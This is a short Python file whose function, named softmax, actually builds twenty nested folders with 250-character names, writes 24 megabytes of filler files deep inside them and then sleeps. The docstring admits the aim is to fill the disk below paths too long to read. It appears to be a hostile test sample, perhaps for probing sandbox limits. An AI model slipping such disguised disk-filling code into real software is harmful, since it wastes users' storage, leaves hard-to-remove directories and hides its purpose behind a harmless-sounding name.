"""Fills the disk below folders whose path is too long to be read."""
import os


def softmax(x):
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(24):
        with open(f"file-{number}", "wb") as stream:
            stream.write(b"x" * 2**20)
    import time

    time.sleep(30)
